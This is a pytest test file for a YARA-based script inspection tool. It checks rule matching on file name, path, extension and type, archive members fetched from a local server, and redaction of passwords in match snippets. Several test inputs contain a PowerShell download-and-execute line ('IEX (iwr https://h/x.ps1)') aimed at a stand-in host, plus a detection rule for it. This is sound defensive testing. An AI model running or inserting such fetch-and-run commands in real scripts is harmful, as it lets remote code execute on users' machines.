"""YARA findings: where the rule matched, a snippet of it without secrets, and the external
variables each artifact is scanned with: rules of community packs that compare the file name,
path, extension, type or owner match what the inspection saw as a file, and only that.

Through the whole pipeline: a submitted script with a name, an inline command, and the
members of an archive fetched from a local server (closed-network mode, reached through the
host map under a realistic name).
"""

from __future__ import annotations

import hashlib
import io
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import yara
from aiohttp import web

from inspector.analyzers.yara_scan import YaraAnalyzer, word_window
from inspector.config import Settings
from inspector.extensions.request import InputKind, InspectionInput
from inspector.model import Artifact, ArtifactType, Verdict
from inspector.pipeline import Inspector
from inspector.stage import Payload, ScanContext, ScanLimits

HOST = "packages.contoso-deploy.net"
MARKER = "ext-vars-marker-5c1d"
RULES = f"""
rule by_name {{
    meta: id = "test.ext.filename" score = 10
    strings: $m = "{MARKER}"
    condition: $m and filename == "deploy.ps1"
}}
rule by_path {{
    meta: id = "test.ext.filepath" score = 10
    strings: $m = "{MARKER}"
    condition: $m and filepath matches /(^|\\/)tools\\/[^\\/]+$/
}}
rule by_extension {{
    meta: id = "test.ext.extension" score = 10
    strings: $m = "{MARKER}"
    condition: $m and extension == ".ps1"
}}
rule by_type {{
    meta: id = "test.ext.filetype" score = 10
    strings: $m = "{MARKER}"
    condition: $m and filetype == "PS1"
}}
rule by_owner {{
    meta: id = "test.ext.owner" score = 10
    strings: $m = "{MARKER}"
    condition: $m and owner == ""
}}
rule fetched_zip {{
    meta: id = "test.ext.fetched_zip" score = 10
    condition: filetype == "ZIP" and filename == "bundle.zip" and filepath == "/releases/bundle.zip"
}}
"""
POWERSHELL = f"Write-Host '{MARKER}'\nInvoke-WebRequest -Uri $env:SOURCE -OutFile $env:TEMP\\x.txt\n"
SHELL = f"#!/bin/bash\necho '{MARKER}'\napt-get install -y nginx\n"
EXT_IDS = {"test.ext.filename", "test.ext.filepath", "test.ext.extension", "test.ext.filetype", "test.ext.owner"}


def _zip(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return buffer.getvalue()


BUNDLE = _zip({
    "pkg/tools/deploy.ps1": POWERSHELL + "# 1\n",   # name, path, extension, type
    "pkg/other/deploy.ps1": POWERSHELL + "# 2\n",   # name, extension, type; not the path
    "pkg/tools/SETUP.PS1": POWERSHELL + "# 3\n",    # path, extension (lower-cased), type; not the name
    "pkg/tools/deploy.sh": SHELL,                   # path only: another name, extension and type
})


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


@pytest.fixture
async def package_host() -> AsyncIterator[int]:
    async def serve(request: web.Request) -> web.Response:
        return web.Response(body=BUNDLE, content_type="application/zip")

    app = web.Application()
    app.router.add_get("/releases/bundle.zip", serve)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    yield site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
    await runner.cleanup()


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "ext_vars.yar").write_text(RULES)
    return Settings(data_dir=tmp_path / "data", signature_dirs=[rules])


async def _inspect(settings: Settings, inp: InspectionInput, *, fetching: bool = False) -> Verdict:
    inspector = await Inspector.start(settings, workers=0, fetching=fetching)
    try:
        return (await inspector.inspect(inp)).verdict
    finally:
        await inspector.close()


def _ext_findings(verdict: Verdict, sha256: str) -> set[str]:
    return {f.id for f in verdict.findings if f.artifact == sha256 and f.id.startswith("test.ext.")}


async def test_a_submitted_script_is_judged_by_the_name_it_was_given(settings: Settings) -> None:
    named = await _inspect(settings, InspectionInput(kind=InputKind.SCRIPT, content=POWERSHELL.encode(),
                                                     filename="deploy.ps1"))
    # Its path is its bare name: the rule wanting a tools/ folder does not match.
    assert _ext_findings(named, _sha(POWERSHELL)) == EXT_IDS - {"test.ext.filepath"}

    renamed = await _inspect(settings, InspectionInput(kind=InputKind.SCRIPT, content=POWERSHELL.encode(),
                                                       filename="notes.txt"))
    assert _ext_findings(renamed, _sha(POWERSHELL)) == {"test.ext.filetype", "test.ext.owner"}


async def test_an_inline_command_or_an_unnamed_script_has_no_name_but_its_type(settings: Settings) -> None:
    inline = await _inspect(settings, InspectionInput(kind=InputKind.EXTENSION, body={"properties": {
        "publisher": "Microsoft.Compute", "type": "CustomScriptExtension", "typeHandlerVersion": "1.10",
        "settings": {"commandToExecute": f"powershell -Command \"Write-Host '{MARKER}'\""}}}))
    [command] = [a for a in inline.artifacts if a.parent is None]
    assert command.type.value == "cmd"  # a Windows commandToExecute is a cmd.exe line: filetype BAT
    assert _ext_findings(inline, command.sha256) == {"test.ext.owner"}

    unnamed = await _inspect(settings, InspectionInput(kind=InputKind.SCRIPT, content=POWERSHELL.encode()))
    assert _ext_findings(unnamed, _sha(POWERSHELL)) == {"test.ext.filetype", "test.ext.owner"}

    shell = await _inspect(settings, InspectionInput(kind=InputKind.SCRIPT, content=SHELL.encode()))
    assert _ext_findings(shell, _sha(SHELL)) == {"test.ext.owner"}


async def test_members_of_a_fetched_archive_are_judged_by_their_path_in_it(settings: Settings,
                                                                             package_host: int) -> None:
    closed_network = settings.model_copy(update=dict(
        fetch=True, fetch_only_allowed=True, fetch_allow_networks=["127.0.0.0/8"], fetch_hosts={HOST: "127.0.0.1"},
        fetch_ports=[package_host], fetch_connect_timeout_s=2.0, fetch_read_timeout_s=2.0,
        fetch_total_timeout_s=5.0, fetch_retries=0, github_api_url="http://127.0.0.1:9"))
    url = f"http://{HOST}:{package_host}/releases/bundle.zip"
    verdict = await _inspect(closed_network, InspectionInput(kind=InputKind.URL, url=url), fetching=True)

    assert _ext_findings(verdict, hashlib.sha256(BUNDLE).hexdigest()) == {"test.ext.fetched_zip"}
    assert _ext_findings(verdict, _sha(POWERSHELL + "# 1\n")) == EXT_IDS
    assert _ext_findings(verdict, _sha(POWERSHELL + "# 2\n")) == EXT_IDS - {"test.ext.filepath"}
    assert _ext_findings(verdict, _sha(POWERSHELL + "# 3\n")) == EXT_IDS - {"test.ext.filename"}
    assert _ext_findings(verdict, _sha(SHELL)) == {"test.ext.filepath", "test.ext.owner"}


async def test_worker_processes_judge_names_as_the_in_process_analysis_does(settings: Settings) -> None:
    inp = InspectionInput(kind=InputKind.SCRIPT, content=POWERSHELL.encode(), filename="deploy.ps1")
    pooled = await Inspector.start(settings, workers=1, fetching=False)
    try:
        verdict = (await pooled.inspect(inp)).verdict
    finally:
        await pooled.close()
    assert _ext_findings(verdict, _sha(POWERSHELL)) == EXT_IDS - {"test.ext.filepath"}


# ---------------------------------------------------------------- snippets

PASSWORD = "Zx8Qw3Rt6Yp1Lk4M"
RULE = yara.compile(source='rule iex_download { meta: id = "yara.test.iex" score = 500 description = "IEX" '
                           'strings: $a = "IEX (iwr" condition: $a }')


def scan(text: str):
    data = text.encode()
    artifact = Artifact(sha256=hashlib.sha256(data).hexdigest(), size=len(data), type=ArtifactType.POWERSHELL,
                        origin="test", depth=0)
    return YaraAnalyzer(RULE).analyze(Payload(artifact=artifact, data=data, text=text), ScanContext(limits=ScanLimits()))


def test_a_finding_locates_the_match_and_quotes_around_it():
    [finding] = scan("Write-Host hi\nIEX (iwr https://h/x.ps1)\n").findings
    assert finding.id == "yara.test.iex" and finding.location and finding.location.line == 2
    assert finding.snippet is not None and "IEX (iwr https://h/x.ps1)" in finding.snippet


def test_a_snippet_window_that_starts_inside_a_password_shows_none_of_it():
    # The window opens 40 bytes before the match: here, five characters into the password.
    text = f"powershell -File setup.ps1 -Password {PASSWORD}" + " " * 27 + "; IEX (iwr https://h/x.ps1)"
    [finding] = scan(text).findings
    assert finding.snippet is not None and finding.snippet.startswith("[REDACTED]")
    assert not any(PASSWORD[i:i + 3] in finding.snippet for i in range(len(PASSWORD) - 2))


def test_a_snippet_starts_and_ends_at_a_word_boundary():
    text = ("Set-Location C:\\Windows\\Temp; Write-Output preparing; IEX (iwr https://h/x.ps1); "
            "Start-Sleep -Seconds 5; Remove-Item -Force x.ps1\n")
    [finding] = scan(text).findings
    snippet = finding.snippet
    assert snippet is not None and "IEX (iwr" in snippet
    # 40 bytes before the match falls inside "Windows": the quote widens to the whole path.
    assert snippet.startswith("C:\\Windows\\Temp;")
    end = text.index(snippet) + len(snippet)
    assert text[end] in " \n" and text[end - 1] not in " \n"


def test_a_window_edge_with_no_blank_nearby_is_marked_with_an_ellipsis():
    text = "A" * 200 + "IEX (iwr https://h/x.ps1)" + "B" * 200
    [finding] = scan(text).findings
    assert finding.snippet is not None
    assert finding.snippet.startswith("\u2026AAAA") and finding.snippet.endswith("BBBB\u2026")


def test_word_window_keeps_a_window_that_already_starts_at_a_word():
    data = b"one two three four"
    assert word_window(data, 4, 7) == (4, 7, False, False)
    assert word_window(data, 5, 9) == (4, 13, False, False)
